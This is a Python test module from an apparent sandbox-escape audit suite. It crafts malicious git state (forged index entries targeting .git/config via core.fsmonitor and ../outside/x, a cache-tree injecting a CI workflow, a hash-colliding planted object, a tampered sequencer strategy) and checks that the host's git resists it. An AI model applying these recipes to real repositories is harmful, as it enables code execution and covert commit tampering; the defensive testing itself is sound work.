"""Row 16 through the git import: git state the command crafts byte by byte, which git reads
without the checks it makes when it writes (issue 21's escapes).

Each attack starts from a real repository on ``main`` (``README`` committed), lets a confined
command craft one piece of git state with its own git and Python, then runs the *host's* git
the way its user would (`git restore .`, `git commit`, `git cherry-pick --continue`). The
proof is outside the sandbox: the payload script never ran, nothing appeared outside the
workspace, `.git/config` kept its bytes, the host commits exactly what the user staged, and
the host's object store holds no object under another content's hash. A marker the command
prints only once its crafted state is in place proves the premise (the sandbox's own git
read it); without it the cell is an error, never "contained".
"""

from __future__ import annotations

import hashlib
import os
from collections.abc import Callable, Sequence
from typing import Any

from bash_sandbox_audit import scenarios
from bash_sandbox_audit.attacks.common import BEGIN, Render, scenario
from bash_sandbox_audit.attacks.row16_git import host_git, payload_never_ran
from bash_sandbox_audit.checks import Check, guards_unchanged, no_escape_lines
from bash_sandbox_audit.host_git import git, git_available, init_repo, make_payload
from bash_sandbox_audit.model import (
    WORKSPACE_WRITE,
    Attack,
    AttackEnv,
    AttackSetup,
    Outcome,
)

# Writes a version-2 git index with the given `name=oid` entries (names unchecked), and a
# root cache-tree claiming `TREE=<oid>` when given; run as `python - PATH ARGS <<'PY'`.
CRAFT_INDEX = r"""
import hashlib, struct, sys
path, args = sys.argv[1], sys.argv[2:]
tree = [a.split("=", 1)[1] for a in args if a.startswith("TREE=")]
items = sorted(
    (n.encode(), bytes.fromhex(o))
    for n, o in (a.split("=", 1) for a in args if not a.startswith("TREE="))
)
body = b""
for name, oid in items:
    entry = struct.pack(">10I", 0, 0, 0, 0, 0, 0, 0o100644, 0, 0, 0) + oid
    entry += struct.pack(">H", min(len(name), 0xFFF)) + name
    body += entry + b"\0" * (8 - len(entry) % 8)
data = b"DIRC" + struct.pack(">II", 2, len(items)) + body
if tree:
    ext = b"\0" + f"{len(items)} 0\n".encode() + bytes.fromhex(tree[0])
    data += b"TREE" + struct.pack(">I", len(ext)) + ext
open(path, "wb").write(data + hashlib.sha1(data).digest())
"""


def craft_index(args: str) -> str:
    return "{{py}} - .git/index " + args + " <<'PY'\n" + CRAFT_INDEX.strip("\n") + "\nPY\n"


def _repo(env: AttackEnv) -> dict[str, Any]:
    if why := git_available():
        return {"skip": why}
    if not env.python:
        return {"skip": "no python3 on this host to craft git state"}
    init_repo(env, env.ws)
    payload = make_payload(env)
    return {"payload": payload.script, "payload_info": payload}


def import_attack(
    id: str,
    title: str,
    template: str,
    marker: str,
    *checks: Check,
    host: Sequence[scenarios.Step] = (),
    premise: Callable[[AttackEnv, dict[str, Any]], None] | None = None,
) -> Attack:
    """Craft with one confined command (which prints ``marker`` once it holds), then act
    as the host's user (``host``) and judge with ``checks`` from outside."""

    def extra(env: AttackEnv) -> dict[str, Any]:
        values = _repo(env)
        if "skip" not in values and premise is not None:
            premise(env, values)
        return values

    def build(env: AttackEnv, render: Render) -> dict[str, Any]:
        command = render(BEGIN + "cd {{ws}}\n" + template)
        return {"steps": [scenarios.confined(command), *host]}

    return scenario(
        id,
        16,
        title,
        build,
        payload_never_ran,
        guards_unchanged,
        no_escape_lines,
        *checks,
        git="none",
        extra=extra,
        modes=WORKSPACE_WRITE,
        markers=("AUDIT-BEGIN", marker),
    )


# -- an index naming `.git/config` and `../outside/x` -------------------------------------------


def _index_paths_premise(env: AttackEnv, values: dict[str, Any]) -> None:
    os.makedirs(env.path("outside"), exist_ok=True)
    with open(os.path.join(env.ws, ".git", "config"), "rb") as fh:
        values["config_before"] = fh.read()


def nothing_written_through_the_index(
    env: AttackEnv, setup: AttackSetup, outcome: Outcome
) -> list[str]:
    found = []
    if os.path.lexists(env.path("outside", "x")):
        found.append("host git wrote outside the workspace: ../outside/x")
    with open(os.path.join(env.ws, ".git", "config"), "rb") as fh:
        if fh.read() != setup.data["config_before"]:
            found.append("host git overwrote .git/config from the command's index")
    return found


INDEX_PATHS = (
    "cfg=$(printf '[core]\\n\\tfsmonitor = {{payload}} index-fsmonitor\\n'"
    " | git hash-object -w --stdin) && out=$(echo owned | git hash-object -w --stdin)"
    " && r=$(git rev-parse HEAD:README) && "
    + craft_index('".git/config=$cfg" "../outside/x=$out" ".GIT/config=$cfg" "README=$r"')
    + "git ls-files | grep -qx .git/config && echo INDEX-CRAFTED\n"
)

# -- a cache-tree claiming a tree with a file nobody staged -----------------------------------


def committed_what_was_staged(env: AttackEnv, setup: AttackSetup, outcome: Outcome) -> list[str]:
    done = git(env, env.ws, "ls-tree", "-r", "--name-only", "HEAD", check=False)
    names = done.stdout.split()
    if names != ["README", "staged.txt"]:
        return [f"the host's commit holds {names}, the user staged README and staged.txt"]
    return []


CACHE_TREE = (
    "echo note > staged.txt && git add staged.txt"
    " && mkdir -p .github/workflows && echo 'run: evil' > .github/workflows/ci.yml"
    " && git add .github && t=$(git write-tree) && git rm -q --cached -r .github"
    " && rm -r .github && "
    + craft_index('"TREE=$t" $(git ls-files -s | awk \'{print $4"="$2}\')')
    + 'test "$(git diff --cached --name-only)" = staged.txt && echo CACHE-TREE-CRAFTED\n'
)

# -- a loose object planted under the hash of the user's reviewed content --------------------

REVIEWED = b"reviewed\n"


def _reviewed_hash(env: AttackEnv, values: dict[str, Any]) -> None:
    header = b"blob %d\0" % len(REVIEWED)
    values["reviewed"] = hashlib.sha1(header + REVIEWED).hexdigest()  # noqa: S324 - git's id


PLANT = (
    "{{py}} -c \"import os, sys, zlib; oid = sys.argv[1]; d = os.path.join('.git/objects', "
    "oid[:2]); os.makedirs(d, exist_ok=True); open(os.path.join(d, oid[2:]), 'wb')"
    ".write(zlib.compress(b'blob 5\\0evil\\n'))\" {{reviewed}}"
    ' && test "$(git cat-file -p {{reviewed}})" = evil'
    " && git update-index --add --cacheinfo 100644,{{reviewed}},f.txt && git commit -qm planted"
    " && echo OBJECT-PLANTED\n"
)


def _user_commits_reviewed(env: AttackEnv, outcome: Outcome) -> None:
    with open(os.path.join(env.ws, "f.txt"), "wb") as fh:
        fh.write(REVIEWED)
    for args in (("add", "f.txt"), ("commit", "-qm", "the reviewed edit")):
        git(env, env.ws, *args, check=False)


def no_planted_object(env: AttackEnv, setup: AttackSetup, outcome: Outcome) -> list[str]:
    oid = setup.data["reviewed"]
    found = []
    shown = git(env, env.ws, "show", "HEAD:f.txt", check=False)
    if shown.stdout != REVIEWED.decode():
        found.append(f"the host committed {shown.stdout[:40]!r} for the reviewed edit")
    stored = git(env, env.ws, "cat-file", "-p", oid, check=False)
    if stored.returncode == 0 and stored.stdout != REVIEWED.decode():
        found.append(f"the host's object {oid[:12]} holds {stored.stdout[:40]!r}")
    return found


# -- sequencer/opts read differently from git: a BOM, a strategy with a path ------------------


def _cherry_pick_premise(env: AttackEnv, values: dict[str, Any]) -> None:
    """Two commits to pick on `other`, the first conflicting with `main`."""
    ws = env.ws

    def write(name: str, text: str) -> None:
        with open(os.path.join(ws, name), "w") as fh:
            fh.write(text)

    git(env, ws, "switch", "-q", "-c", "other")
    write("README", "other\n")
    git(env, ws, "commit", "-qam", "conflicting")
    write("g.txt", "g\n")
    git(env, ws, "add", "g.txt")
    git(env, ws, "commit", "-qm", "g")
    git(env, ws, "switch", "-q", "main")
    write("README", "main\n")
    git(env, ws, "commit", "-qam", "main")


SEQUENCER = (
    "mkdir -p 'git-merge-ours x' && printf '#!/bin/sh\\n{{payload}} sequencer-strategy\\n'"
    " > 'git-merge-ours x/evil' && chmod +x 'git-merge-ours x/evil'\n"
    "git cherry-pick main..other >/dev/null 2>&1; test -d .git/sequencer"
    " && printf '\\357\\273\\277[options]\\n\\tstrategy = ours x/evil\\n' > .git/sequencer/opts"
    " && echo SEQUENCER-STOPPED\n"
)

ATTACKS: list[Attack] = [
    import_attack(
        "row16-import-index-paths",
        "craft .git/index entries named .git/config (core.fsmonitor), .GIT/config and "
        "../outside/x; the host runs git restore ., git checkout -- ., git status",
        INDEX_PATHS,
        "INDEX-CRAFTED",
        nothing_written_through_the_index,
        host=(
            host_git("ws", "restore", "."),
            host_git("ws", "checkout", "--", "."),
            host_git("ws", "status", "--porcelain"),
        ),
        premise=_index_paths_premise,
    ),
    import_attack(
        "row16-import-cache-tree",
        "craft an index cache-tree naming a tree with .github/workflows/ci.yml nobody "
        "staged; the host commits",
        CACHE_TREE,
        "CACHE-TREE-CRAFTED",
        committed_what_was_staged,
        host=(host_git("ws", "commit", "-qm", "the user's commit"),),
    ),
    import_attack(
        "row16-import-planted-object",
        "plant a loose object under the hash of the user's reviewed content and commit it; "
        "the host commits the reviewed edit",
        PLANT,
        "OBJECT-PLANTED",
        no_planted_object,
        host=(scenarios.host(_user_commits_reviewed),),
        premise=_reviewed_hash,
    ),
    import_attack(
        "row16-import-sequencer-opts",
        "stop a cherry-pick and rewrite sequencer/opts with a UTF-8 BOM and "
        "`strategy = ours x/evil` (a workspace program); the host continues it",
        SEQUENCER,
        "SEQUENCER-STOPPED",
        host=(
            host_git("ws", "checkout", "--theirs", "README"),
            host_git("ws", "add", "README"),
            host_git("ws", "-c", "core.editor=true", "cherry-pick", "--continue"),
        ),
        premise=_cherry_pick_premise,
    ),
]
